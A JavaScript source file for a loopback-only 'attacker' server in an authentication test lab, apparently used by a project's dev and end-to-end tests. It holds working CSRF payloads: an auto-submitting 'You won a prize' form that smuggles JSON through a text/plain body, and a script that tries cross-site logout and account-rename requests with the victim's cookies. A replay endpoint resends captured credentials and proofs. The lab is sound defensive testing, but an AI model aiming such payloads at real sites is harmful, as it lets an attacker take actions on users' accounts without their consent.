// The evidence lab's attacker: another site (127.0.0.1, while the SPA and the APIs are on
// localhost), for `pnpm dev` and the e2e suite only. Dependency-free, loopback-only. It serves
//   GET  /health  "ok"
//   GET  /form    a form that posts itself to ?action= (the e2e attack spec's classic CSRF)
//   GET  /csrf    the lab's CSRF page: told by the lab (postMessage) which API to attack, it
//                 tries cross-site forms and fetches with the victim's browser, then reports
//                 what it could see; the lab checks the damage through the API, as the user
//   POST /replay  sends a request to a loopback API from this server, outside the browser
//                 (stolen material replayed, once or every N ms, with headers of its own for each
//                 send if given), and answers what came back
//   GET  /sink.js?sink=<name>
//                 the script of the lab's sink page ("Can a script get in?"): loaded from another
//                 origin, it tells that page it ran (it calls __authbenchSinkRan(<name>))
//   GET  *        a blank page to run script from
// Settings: ATTACKER_PORT (5174), ATTACKER_HOST (127.0.0.1), ATTACKER_ORIGINS (the SPA's
// origins, comma-separated: the pages allowed to drive /csrf and /replay; http://localhost:5173),
// ATTACKER_EDGE (a deployment topology's HTTPS edge on this machine, e.g. 127.0.0.1:8443: replays
// to its made-up https://*.example.test and *.other.test names go there, and nowhere else).
import { request as httpRequest, createServer } from 'node:http';
import { request as httpsRequest } from 'node:https';

/** @param {string} message */
function fail(message) {
  console.error(`attacker: ${message}`);
  process.exit(1);
}

const port = Number(process.env.ATTACKER_PORT ?? 5174);
if (!Number.isInteger(port) || port < 0 || port > 65535) fail('ATTACKER_PORT: expected a port number');
const host = process.env.ATTACKER_HOST ?? '127.0.0.1';
const origins = (process.env.ATTACKER_ORIGINS ?? 'http://localhost:5173')
  .split(',')
  .map((origin) => origin.trim())
  .filter(Boolean);
for (const origin of origins) {
  if (!URL.canParse(origin) || new URL(origin).origin !== origin) fail(`ATTACKER_ORIGINS: expected exact origins such as http://localhost:5173 (got ${JSON.stringify(origin)})`);
}

/** Where a replay may go: this machine only, so the lab can never be turned against anyone else. */
const loopbackHosts = new Set(['localhost', '127.0.0.1', '[::1]']);
const edge = process.env.ATTACKER_EDGE ? /^127\.0\.0\.1:(\d{1,5})$/.exec(process.env.ATTACKER_EDGE) : null;
if (process.env.ATTACKER_EDGE && !edge) fail('ATTACKER_EDGE: expected 127.0.0.1:<port>, the edge on this machine');
/** The topologies' names (apps/edge/topologies.mjs), served by the edge on this machine. */
const isEdgeHost = (/** @type {URL} */ target) => edge !== null && target.protocol === 'https:' && /\.(example|other)\.test$/.test(target.hostname);
const methods = new Set(['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']);
const limits = { count: 100, everyMsMin: 20, everyMsMax: 5000, seriesMs: 15_000, requestMs: 5000, inFlight: 4, headers: 40, valueBytes: 8192, bodyBytes: 10_240, answerBytes: 16_384 };

/** @param {string} text */
const escapeHtml = (text) => text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

/**
 * @param {import('node:http').ServerResponse} res
 * @param {number} status
 * @param {string} type
 * @param {string} body
 */
function send(res, status, type, body) {
  res.writeHead(status, { 'Content-Type': type, 'Cache-Control': 'no-store' });
  res.end(body);
}

/** The e2e attack spec's page: a classic CSRF that posts itself on load. */
function formPage(/** @type {URL} */ url) {
  const action = escapeHtml(url.searchParams.get('action') ?? '');
  const enctype = escapeHtml(url.searchParams.get('enctype') ?? 'text/plain');
  return `<!doctype html><title>You won a prize</title>
<form method="POST" action="${action}" enctype="${enctype}"><input type="hidden" name='{"name":"pwned","x":"' value='"}'></form>
<script>document.forms[0].submit()</script>`;
}

/**
 * The lab's CSRF page. It runs in the attacker's origin with the victim's browser, and learns
 * which API to attack from a message of an allowed origin (the lab page that opened or framed
 * it). It can send requests but never read their answers (CORS), so it reports what it sent and
 * what the browser let it see; whether anything happened is for the lab to check as the user.
 */
function csrfPage() {
  const script = `
const allowed = ${JSON.stringify(origins)};
const peer = window.opener || (window.parent !== window ? window.parent : null);
const tell = (message) => { for (const origin of allowed) peer?.postMessage(message, origin); };
const tick = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const elapsed = (started) => Math.round(performance.now() - started);

// A form cannot send PATCH or JSON, but it needs no permission: the browser posts it with
// whatever cookies it is willing to attach. Its answer lands in a frame this page cannot read.
async function submitForm(label, action) {
  const name = 'sink-' + Math.random().toString(36).slice(2);
  const frame = document.createElement('iframe');
  frame.name = name;
  frame.hidden = true;
  document.body.append(frame);
  await tick(0); // the frame's own about:blank load, before listening for the answer's
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', action, enctype: 'text/plain', target: name });
  const field = document.createElement('input');
  Object.assign(field, { type: 'hidden', name: '{"name":"pwned","x":"', value: '"}' });
  form.append(field);
  document.body.append(form);
  const started = performance.now();
  const answered = new Promise((resolve) => {
    frame.addEventListener('load', () => resolve(true), { once: true });
    setTimeout(() => resolve(false), 3000);
  });
  form.submit();
  const loaded = await answered;
  form.remove();
  frame.remove();
  return { kind: 'form', label, method: 'POST', url: action, contentType: 'text/plain', readable: false, ms: elapsed(started),
    seen: loaded ? 'the answer loaded into a frame this page cannot read' : 'no answer within 3 s' };
}

// fetch() may send what a form cannot, but a browser asks the API first (a CORS preflight) for
// anything beyond a "simple" request, and hides every answer the API does not share with us.
async function tryFetch(label, url, init) {
  const started = performance.now();
  try {
    const response = await fetch(url, { credentials: 'include', ...init });
    const body = (await response.text()).slice(0, 300);
    return { kind: 'fetch', label, method: init.method, url, contentType: init.headers?.['Content-Type'] ?? null, readable: true, status: response.status, seen: body, ms: elapsed(started) };
  } catch (error) {
    return { kind: 'fetch', label, method: init.method, url, contentType: init.headers?.['Content-Type'] ?? null, readable: false, seen: String(error), ms: elapsed(started) };
  }
}

window.addEventListener('message', async (event) => {
  if (!allowed.includes(event.origin) || event.data?.type !== 'authbench-lab:csrf') return;
  const { api, name, nonce } = event.data;
  const attempts = [
    await submitForm('form: log out', api + '/api/auth/logout'),
    await submitForm('form: log out everywhere', api + '/api/auth/logout-all'),
    await tryFetch('fetch: rename the user', api + '/api/me', { method: 'PATCH', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ name }) }),
    await tryFetch('fetch: log out everywhere (a simple request)', api + '/api/auth/logout-all', { method: 'POST', headers: { 'Content-Type': 'text/plain' }, body: '{}' }),
    await tryFetch('fetch: log out (a simple request)', api + '/api/auth/logout', { method: 'POST' }),
  ];
  event.source?.postMessage({ type: 'authbench-lab:csrf-result', nonce, origin: location.origin, attempts }, { targetOrigin: event.origin });
});
tell({ type: 'authbench-lab:ready', origin: location.origin });
`;
  return `<!doctype html><meta charset="utf-8"><title>You won a prize</title>
<h1>You won a prize</h1>
<p>The Authbench lab's attacker page, on another site than the app. It attacks the API the lab names, with this browser's cookies if the browser sends them, and tells the lab what it could see.</p>
<script>${script}</script>`;
}

/** @typedef {{ url: string, method: string, headers: Record<string, string>, body: string | undefined }} ReplayRequest */
/**
 * `headers`: one set per send, added to the request's (a fresh DPoP proof each time: a proof is
 * good once, so a series of one proof would measure nothing but its replay check).
 * @typedef {{ count: number, everyMs: number, until: 'refused' | 'admitted' | undefined, headers: Record<string, string>[] | undefined }} Repeat
 */
/** @typedef {{ at: number, sentAt: number, ms: number, status: number, headers: Record<string, string | string[]>, body: unknown, error?: string }} ReplayResult */

/** @param {unknown} value @returns {value is Record<string, unknown>} */
const isRecord = (value) => typeof value === 'object' && value !== null && !Array.isArray(value);

/**
 * Reads and checks a /replay body: one request to a loopback URL, and optionally a repeat.
 * @param {unknown} input
 * @returns {{ request: ReplayRequest, repeat: Repeat } | string}
 */
function parseReplay(input) {
  if (!isRecord(input) || !isRecord(input.request)) return 'expected {request: {url, method, headers, body}, repeat?: {count, everyMs, until}}';
  const { url, method = 'GET', headers = {}, body } = input.request;
  if (typeof url !== 'string' || !URL.canParse(url)) return 'request.url: expected an absolute URL';
  const target = new URL(url);
  if (!isEdgeHost(target) && (target.protocol !== 'http:' || !loopbackHosts.has(target.hostname))) {
    return `request.url: only http://localhost, 127.0.0.1 or [::1] URLs are replayed${edge ? ', and https://*.example.test or *.other.test through the edge' : ''}`;
  }
  if (typeof method !== 'string' || !methods.has(method)) return `request.method: one of ${[...methods].join(', ')}`;
  if (!isRecord(headers) || Object.keys(headers).length > limits.headers) return `request.headers: at most ${limits.headers} string values`;
  /** @returns {Record<string, string> | string} */
  const checkHeaders = (/** @type {Record<string, unknown>} */ given, /** @type {string} */ where) => {
    /** @type {Record<string, string>} */
    const checked = {};
    for (const [name, value] of Object.entries(given)) {
      if (typeof value !== 'string' || value.length > limits.valueBytes || /[\r\n]/.test(value) || !/^[!#$%&'*+.^_`|~0-9A-Za-z-]+$/.test(name)) return `${where}.${name}: expected a single-line string`;
      checked[name] = value;
    }
    return checked;
  };
  const checked = checkHeaders(headers, 'request.headers');
  if (typeof checked === 'string') return checked;
  if (body !== undefined && (typeof body !== 'string' || Buffer.byteLength(body) > limits.bodyBytes)) return `request.body: a string of at most ${limits.bodyBytes} bytes`;
  const repeat = input.repeat ?? { count: 1, everyMs: limits.everyMsMin };
  if (!isRecord(repeat)) return 'repeat: expected {count, everyMs, until}';
  const { count, everyMs, until, headers: each } = repeat;
  if (typeof count !== 'number' || !Number.isInteger(count) || count < 1 || count > limits.count) return `repeat.count: 1 to ${limits.count}`;
  if (typeof everyMs !== 'number' || everyMs < limits.everyMsMin || everyMs > limits.everyMsMax) return `repeat.everyMs: ${limits.everyMsMin} to ${limits.everyMsMax}`;
  if (until !== undefined && until !== 'refused' && until !== 'admitted') return 'repeat.until: refused or admitted';
  /** @type {Record<string, string>[] | undefined} */
  let perSend;
  if (each !== undefined) {
    if (!Array.isArray(each) || each.length > count || !each.every(isRecord)) return 'repeat.headers: at most count sets of headers';
    perSend = [];
    for (const [i, set] of each.entries()) {
      const checkedSet = checkHeaders(/** @type {Record<string, unknown>} */ (set), `repeat.headers[${i}]`);
      if (typeof checkedSet === 'string') return checkedSet;
      perSend.push(checkedSet);
    }
  }
  return { request: { url, method, headers: checked, body }, repeat: { count, everyMs, until, headers: perSend } };
}

/**
 * One request, exactly as given (any Origin, any Cookie: this is not a browser), and what came back.
 * @param {ReplayRequest} replay
 * @returns {Promise<Omit<ReplayResult, 'at' | 'sentAt'>>}
 */
function sendOnce(replay) {
  const started = performance.now();
  const ms = () => Math.round((performance.now() - started) * 10) / 10;
  return new Promise((resolve) => {
    const headers = { 'User-Agent': 'authbench-lab-attacker', ...replay.headers };
    const target = new URL(replay.url);
    // Through the edge: TLS to this machine, naming the host (its certificate is made at run time, self-signed).
    const outgoing = (isEdgeHost(target) ? httpsRequest : httpRequest)(
      replay.url,
      { method: replay.method, headers, timeout: limits.requestMs, ...(isEdgeHost(target) && edge && { host: '127.0.0.1', port: Number(edge[1]), servername: target.hostname, rejectUnauthorized: false, headers: { ...headers, Host: target.host } }) },
      (incoming) => {
      /** @type {Buffer[]} */
      const chunks = [];
      let size = 0;
      incoming.on('data', (/** @type {Buffer} */ chunk) => {
        if (size < limits.answerBytes) chunks.push(chunk);
        size += chunk.length;
      });
      incoming.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8').slice(0, limits.answerBytes);
        /** @type {unknown} */
        let body = text;
        if (/json/.test(incoming.headers['content-type'] ?? '')) {
          try {
            body = JSON.parse(text);
          } catch {
            // truncated or not JSON after all: keep the text
          }
        }
        /** @type {Record<string, string | string[]>} */
        const answerHeaders = {};
        for (const [name, value] of Object.entries(incoming.headers)) if (value !== undefined) answerHeaders[name] = value;
        resolve({ ms: ms(), status: incoming.statusCode ?? 0, headers: answerHeaders, body });
      });
    });
    outgoing.on('timeout', () => outgoing.destroy(new Error(`no answer within ${limits.requestMs} ms`)));
    outgoing.on('error', (error) => resolve({ ms: ms(), status: 0, headers: {}, body: null, error: error.message }));
    outgoing.end(replay.body);
  });
}

/** @param {number} ms */
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/**
 * The request once, or every `everyMs` (the first at once), until `count`, until the API's
 * answer turns (`until`), or until the series has run for limits.seriesMs.
 * @param {ReplayRequest} request
 * @param {Repeat} repeat
 */
async function replaySeries(request, repeat) {
  /** @type {ReplayResult[]} */
  const results = [];
  const started = performance.now();
  for (let i = 0; i < repeat.count; i++) {
    const due = i * repeat.everyMs;
    const wait = due - (performance.now() - started);
    if (wait > 0) await sleep(wait);
    if (performance.now() - started > limits.seriesMs) break;
    const at = Math.round((performance.now() - started) * 10) / 10;
    // The wall clock too: this server runs on the lab's machine (loopback only), so the lab can
    // time a replay against its own events, such as the moment a revocation was answered.
    const sentAt = Date.now();
    const result = { at, sentAt, ...(await sendOnce({ ...request, headers: { ...request.headers, ...repeat.headers?.[i] } })) };
    results.push(result);
    const admitted = result.status >= 200 && result.status < 300;
    if ((repeat.until === 'refused' && !admitted) || (repeat.until === 'admitted' && admitted)) break;
  }
  return results;
}

let inFlight = 0;

/**
 * @param {import('node:http').IncomingMessage} req
 * @returns {Promise<unknown>}
 */
function readJson(req) {
  return new Promise((resolve, reject) => {
    /** @type {Buffer[]} */
    const chunks = [];
    let size = 0;
    req.on('data', (/** @type {Buffer} */ chunk) => {
      size += chunk.length;
      if (size > 64 * 1024) {
        reject(new Error('body too large'));
        req.destroy();
      } else chunks.push(chunk);
    });
    req.on('end', () => {
      try {
        resolve(JSON.parse(Buffer.concat(chunks).toString('utf8')));
      } catch {
        reject(new Error('invalid JSON'));
      }
    });
    req.on('error', reject);
  });
}

/**
 * @param {import('node:http').IncomingMessage} req
 * @param {import('node:http').ServerResponse} res
 */
async function replay(req, res) {
  const origin = req.headers.origin;
  // Only the lab's own pages may drive the replay (a browser sends Origin on every cross-origin POST).
  if (origin === undefined || !origins.includes(origin)) return send(res, 403, 'application/json', JSON.stringify({ error: 'origin not allowed' }));
  if (inFlight >= limits.inFlight) return send(res, 429, 'application/json', JSON.stringify({ error: 'too many replays at once' }));
  inFlight++;
  try {
    const parsed = parseReplay(await readJson(req).catch((/** @type {unknown} */ error) => (error instanceof Error ? error.message : String(error))));
    if (typeof parsed === 'string') return send(res, 400, 'application/json', JSON.stringify({ error: parsed }));
    const results = await replaySeries(parsed.request, parsed.repeat);
    const { pathname } = new URL(parsed.request.url);
    // Statuses only: never the headers or bodies, which hold the replayed credentials.
    console.log(`attacker: replayed ${parsed.request.method} ${new URL(parsed.request.url).host}${pathname} x${results.length}: ${results.map((r) => r.status).join(',')}`);
    send(res, 200, 'application/json', JSON.stringify({ results }));
  } finally {
    inFlight--;
  }
}

const server = createServer((req, res) => {
  const url = new URL(req.url ?? '/', `http://${host}:${port}`);
  const origin = req.headers.origin;
  if (url.pathname === '/replay' && origin !== undefined && origins.includes(origin)) {
    res.setHeader('Access-Control-Allow-Origin', origin);
    res.setHeader('Vary', 'Origin');
  }
  if (url.pathname === '/replay' && req.method === 'OPTIONS') {
    res.setHeader('Access-Control-Allow-Methods', 'POST');
    res.setHeader('Access-Control-Allow-Headers', 'Content-Type');
    res.setHeader('Access-Control-Max-Age', '600');
    res.writeHead(204).end();
    return;
  }
  if (url.pathname === '/replay' && req.method === 'POST') {
    replay(req, res).catch((/** @type {unknown} */ error) => {
      if (!res.headersSent) send(res, 500, 'application/json', JSON.stringify({ error: String(error) }));
    });
    return;
  }
  if (url.pathname === '/health') return send(res, 200, 'text/plain', 'ok');
  if (url.pathname === '/sink.js') {
    const sink = url.searchParams.get('sink') ?? '';
    if (!/^[a-z-]{1,40}$/.test(sink)) return send(res, 400, 'text/plain', 'sink: expected a sink name such as foreign-script');
    return send(res, 200, 'text/javascript', `window.__authbenchSinkRan?.(${JSON.stringify(sink)});\n`);
  }
  if (url.pathname === '/form') return send(res, 200, 'text/html', formPage(url));
  if (url.pathname === '/csrf') return send(res, 200, 'text/html', csrfPage());
  send(res, 200, 'text/html', '<!doctype html><title>Attacker</title><h1>Nothing to see</h1>');
});

server.listen(port, host, () => {
  console.log(`attacker: the lab's attacker site on http://${host}:${port} (pages allowed to drive it: ${origins.join(', ')})`);
});
const stop = () => server.close(() => process.exit(0));
process.once('SIGTERM', stop);
process.once('SIGINT', stop);
